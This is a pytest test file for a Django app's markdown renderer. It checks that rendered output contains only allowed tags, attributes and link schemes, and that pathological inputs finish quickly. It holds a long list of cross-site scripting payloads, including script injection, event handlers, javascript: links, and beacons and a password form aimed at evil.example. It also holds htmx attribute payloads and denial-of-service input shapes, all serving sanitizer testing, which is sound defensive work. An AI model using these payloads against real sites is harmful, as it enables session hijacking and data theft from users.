"""Markdown is written by strangers and machines: what it may become is little, and it may not cost much."""

import time
from html.parser import HTMLParser

import pytest
from django.template import engines

from flowpilot.ui.markdown import _CODE_CLASSES, MOST_BYTES, render

MAY_HAVE = {
    "a": {"href", "title", "rel", "target"},
    "button": {"type", "class", "data-copy"},
    "div": {"class"},
    "ol": {"start"},
    "pre": {"tabindex", "role", "aria-label", "class"},
    "span": {"class"},
    "td": {"class"},
    "th": {"class"},
}
MAY_BE = {
    *MAY_HAVE, "blockquote", "br", "code", "em", "h2", "h3", "h4", "h5", "h6", "header", "hr", "li", "p", "s", "strong", "table", "tbody",
    "thead", "tr", "ul",
}  # fmt: skip
CLASSES = _CODE_CLASSES | {"", "btn", "code", "end", "ghost", "r", "said", "sm"}


class Inspector(HTMLParser):
    """Collects what a browser would make of the HTML and should not."""

    def __init__(self, html):
        super().__init__()
        self.wrong = []
        self.feed(html)

    def handle_starttag(self, tag, attributes):
        if tag not in MAY_BE:
            self.wrong.append(tag)
        for name, value in attributes:
            if name not in MAY_HAVE.get(tag, set()):
                self.wrong.append(f"{tag} {name}")
            if name == "class" and not CLASSES.issuperset(value.split(" ")):
                self.wrong.append(f"{tag} class {value}")
            if name == "href" and not value.lower().startswith(("http://", "https://", "mailto:")):
                self.wrong.append(f"{tag} href {value}")

    def handle_comment(self, data):
        self.wrong.append("comment")

    def handle_decl(self, decl):
        self.wrong.append("declaration")

    def handle_pi(self, data):
        self.wrong.append("instruction")


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/?leak=1'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<form action=https://evil.example><input name=password></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<p style='background:url(https://evil.example)'>x</p>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<a href=javascript:alert(1)>x</a>",
    "<div id=toasts name=main class='skip overlay'>x</div>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](ms-msdt:/id)",
    "[x](search-ms:query=x)",
    "[x](//evil.example)",
    "[x](/accounts/logout)",
    "[x](?next=1)",
    "[x](#toasts)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '[x](https://a.example "\\" onclick=alert(1) x=\\"")',
    "[x](https://a.example'onclick='alert(1))",
    "![x](https://evil.example/?leak=1)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x][1]\n\n[1]: https://evil.example/p.png",
    "[![x](https://evil.example/p.png)](https://evil.example)",
    "```<script>\nalert(1)\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "```powershell onclick=alert(1)\nx\n```",
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "|a|\n|-|\n|<img src=x onerror=alert(1)>|",
    "# <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\ud800<script>alert(1)</script>\udfff",
    "\0<script>alert(1)</script>",
    "text\u2028<script>alert(1)</script>",
    "<" * 400 + "script>alert(1)",
]
HTMX = [
    "<div hx-get=/accounts/logout hx-trigger=load>x</div>",
    "<div data-hx-post=/tickets/1/notes data-hx-trigger=load>x</div>",
    "<div hx-on:click=alert(1)>x</div>",
    "<div hx-on::load=alert(1)>x</div>",
    "<div hx-sse:connect=https://evil.example>x</div>",
    "<div hx-vals='js:{a: alert(1)}'>x</div>",
    "<a hx-boost=true href=https://evil.example>x</a>",
    "<hx-partial hx-target=#toasts>x</hx-partial>",
    "<template hx type=partial hx-target=#main>x</template>",
    "<div hx-swap-oob=true id=lane-fix>x</div>",
    "<button data-copy='#x' data-shows='#shortcuts'>x</button>",
    "<p data-draft=x data-go=h aria-keyshortcuts=a>x</p>",
]
K = MOST_BYTES
TABLE = "|a" * 19 + "\n" + "|-" * 19 + "\n"
SHAPES = {
    "quotes": ">" * K,
    "quotes in lines": "> " * 49 + "a\n" * 300,
    "brackets": "[" * K,
    "brackets under the limit": "[a](" * 990,
    "images": "![](" * 990,
    "stars": "*a_b " * (K // 5),
    "underscores": "_a_" * (K // 3),
    "strikes": "~~a " * (K // 4),
    "ticks of every length": " ".join("`" * n for n in range(250))[:K],
    "angles": "<" * K,
    "comments": "<!--" * (K // 4),
    "entities": "&#" * (K // 2),
    "backslashes": "\\" * K,
    "spaces": " " * K,
    "tabs": "\t" * K,
    "bullets in lines": ("- " * 49 + "a\n") * 300,
    "bullets in steps": "\n".join("  " * depth + "- a" for depth in range(120)),
    "numbers": "1. a\n" * (K // 5),
    "headings": "a\n-\n" * (K // 4),
    "short rows of a wide table": TABLE + "|b\n" * 9_000,
    "rows of a wide table": TABLE + ("|b" * 19 + "\n") * 700,
    "references": "[a]: b\n" * 990,
    "fences": "```\n" * (K // 4),
    "many small blocks": "```powershell\na\n```\n" * 1_600,
    "PowerShell": "```ps1\n" + '"$(' * 10_000,
    "here-string": '```ps1\n@"\n' + "$(" * 7_000,
    "Bash": "```bash\n" + ("${" * 400 + "\n") * 19,
    "diff": "```diff\n" + "+-" * 7_500,
    "JSON": "```json\n" + "[" * 900,
    "YAML": "```yaml\n" + ("{" * 900 + "\n") * 1,
    "HTML": "```html\n" + ("<script " * 100 + "\n") * 18,
}


@pytest.mark.parametrize("text", HOSTILE + HTMX)
def test_render_lets_nothing_hostile_through(text):
    assert Inspector(render(text)).wrong == []


@pytest.mark.parametrize("text", HOSTILE + HTMX)
def test_render_lets_nothing_hostile_through_inside_other_blocks(text):
    wrapped = f"- > {text}\n\n**{text}**\n\n| a |\n|---|\n| {text} |"

    assert Inspector(render(wrapped)).wrong == []


@pytest.mark.parametrize("shape", SHAPES)
def test_render_does_not_blow_up(shape):
    text = SHAPES[shape][:K]
    render("```bash\na\n```")  # what is loaded once is not counted
    start = time.process_time()

    html = render(text)

    assert time.process_time() - start < 10  # 0.15 s on a quiet machine; what blows up takes minutes
    assert Inspector(html).wrong == []


@pytest.mark.parametrize("text", ["[" * 3_000, ">" * 60 + " deep", "a" * (MOST_BYTES + 1), SHAPES["bullets in steps"]])
def test_render_shows_what_is_too_much_as_it_was_typed(text):
    assert render(text) == f'<pre class="said">{text.replace(">", "&gt;")}</pre>'


def test_render_draws_a_block_of_code_with_its_language_and_a_button():
    html = render("```powershell\n$a = 'x' # y\nGet-Item $a\n```")

    assert '<div class="code"><header>PowerShell<span class="end">' in html
    assert '<button type="button" class="btn ghost sm" data-copy="code">Copy</button>' in html
    assert '<span class="nv">$a</span> = <span class="s1">\'x\'</span> <span class="c"># y</span>' in html


def test_render_keeps_code_letter_by_letter():
    code = '  if ($a -lt 3 && "b") { <# x #> }\n\n'

    html = render(f"```powershell\n{code}```")
    words = []
    inspector = Inspector("")
    inspector.handle_data = words.append
    inspector.feed(html[html.index("<pre") : html.index("</pre>")])

    assert "".join(words) == code


@pytest.mark.parametrize("language", ["", "klingon", "brainfuck", "text/plain"])
def test_render_calls_code_it_does_not_know_text(language):
    assert "<header>Text<" in render(f"```{language}\nx\n```")


@pytest.mark.parametrize(
    "language", ["ps1", "cmd", "bash", "reg", "console", "yaml", "json", "http", "html", "sql", "toml"]
)
def test_render_has_a_lexer_for_what_it_names(language):
    assert "<header>Text<" not in render(f"```{language}\nx = 1\n```")


def test_render_opens_links_elsewhere_without_telling_them_where_from():
    assert render("[Learn](https://learn.microsoft.com)") == (
        '<p><a href="https://learn.microsoft.com" target="_blank" rel="noopener noreferrer nofollow">Learn</a></p>\n'
    )


def test_render_shows_a_link_into_this_site_as_it_was_typed():
    assert render("[x](/accounts/logout)") == "<p>[x](/accounts/logout)</p>\n"


def test_render_leaves_the_page_its_only_h1():
    assert render("# a\n## b\n### c") == "<h2>a</h2>\n<h2>b</h2>\n<h3>c</h3>\n"


def test_render_aligns_numbers_by_class():
    html = render("| a | n |\n|---|--:|\n| b | 3 |")

    assert '<th class="r">n</th>' in html
    assert '<td class="r">3</td>' in html


def test_render_shows_characters_that_deceive():
    assert render("`rm \u202etxt.exe`") == "<p><code>rm [U+202E]txt.exe</code></p>\n"


@pytest.mark.parametrize("nothing", ["", None])
def test_render_of_nothing_is_nothing(nothing):
    assert render(nothing) == ""


def test_markdown_is_a_filter():
    assert (
        engines["django"].from_string("{{ text|markdown }}").render({"text": "**a**"}) == "<p><strong>a</strong></p>\n"
    )
